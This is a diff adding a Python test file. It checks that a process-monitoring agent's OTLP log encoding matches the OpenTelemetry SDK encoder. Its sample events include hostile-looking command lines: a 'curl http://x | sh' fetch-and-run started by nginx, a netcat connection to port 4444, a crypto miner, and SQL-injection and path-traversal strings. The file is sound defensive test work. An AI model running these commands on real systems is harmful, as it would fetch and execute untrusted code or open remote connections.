@@ -1,0 +1,56 @@
+"""The agent's direct OTLP encoding decodes to exactly what the OpenTelemetry SDK's encoder produces."""
+
+from __future__ import annotations
+
+import pytest
+from opentelemetry._logs import LogRecord, SeverityNumber
+from opentelemetry.exporter.otlp.proto.common._log_encoder import encode_logs
+from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
+from opentelemetry.sdk._logs import ReadableLogRecord
+from opentelemetry.sdk.util.instrumentation import InstrumentationScope
+
+from otel_agent.emitter import build_resource, to_attributes
+from otel_agent.otlp import RequestEncoder, encode_log_record
+from scoring.event import CONNECTION, LISTEN, ProcessEvent
+
+EVENTS = [
+    ProcessEvent(executable_name="bash", command_line="bash -c curl http://x | sh",
+                 command_args=("bash", "-c", "curl http://x | sh"), executable_path="/usr/bin/bash",
+                 parent_name="nginx", pid=4242, parent_pid=1, user_id=33, user_name="www-data",
+                 working_directory="/var/www", container_id="a" * 64, timestamp=1_700_000_000.123456),
+    ProcessEvent(executable_name="true", command_line="/bin/true \x1b[31m ' OR 1=1 -- \\xff 🙂 ../../x",
+                 command_args=("/bin/true", "\x1b[31m", "' OR 1=1 --", "\\xff", "🙂", "../../x"), pid=2**31 - 1,
+                 user_id=0, command_args_truncated=True, timestamp=1.5),
+    ProcessEvent(executable_name="nc", command_line="nc 203.0.113.9 4444", event_name=CONNECTION, pid=7,
+                 transport="tcp", local_address="10.0.0.2", local_port=50000, remote_address="203.0.113.9",
+                 remote_port=4444, timestamp=1_700_000_001.0),
+    ProcessEvent(executable_name="xmrig", command_line="./xmrig", event_name="process.cpu", pid=8, cpu_percent=199.5,
+                 timestamp=1_700_000_002.0),
+    ProcessEvent(executable_name="python3", command_line="python3 -m http.server", event_name=LISTEN, pid=9,
+                 transport="tcp", local_address="::", local_port=8000, timestamp=1_700_000_003.0),
+]
+
+
+@pytest.mark.parametrize("event", EVENTS, ids=lambda e: e.event_name + ":" + e.executable_name)
+def test_encoding_matches_the_sdk_encoder(event):
+    resource = build_resource("prod-web")
+    time_ns, observed_ns = int(event.timestamp * 1e9), 1_800_000_000_000_000_000
+    attributes = to_attributes(event)
+    ours = ExportLogsServiceRequest.FromString(RequestEncoder(resource.attributes, "procsight.otel_agent", "0.1.0")
+                                               .encode([encode_log_record(time_ns, observed_ns, event.event_name,
+                                                                          event.command_line, attributes)]))
+    sdk_record = LogRecord(timestamp=time_ns, observed_timestamp=observed_ns, body=event.command_line,
+                           attributes=attributes, event_name=event.event_name,
+                           severity_number=SeverityNumber.INFO, severity_text="INFO")
+    sdk = encode_logs([ReadableLogRecord(log_record=sdk_record, resource=resource,
+                                         instrumentation_scope=InstrumentationScope("procsight.otel_agent", "0.1.0"))])
+    assert ours == sdk
+    assert ours.resource_logs[0].scope_logs[0].log_records[0].event_name == event.event_name
+
+
+def test_many_records_in_one_request_keep_their_order():
+    encoder = RequestEncoder({"service.name": "procsight-agent"}, "s", "1")
+    records = [encode_log_record(i, i, "process.exec", f"cmd {i}", {"process.pid": i}) for i in range(100)]
+    request = ExportLogsServiceRequest.FromString(encoder.encode(records))
+    assert [r.body.string_value for r in request.resource_logs[0].scope_logs[0].log_records] == [
+        f"cmd {i}" for i in range(100)]
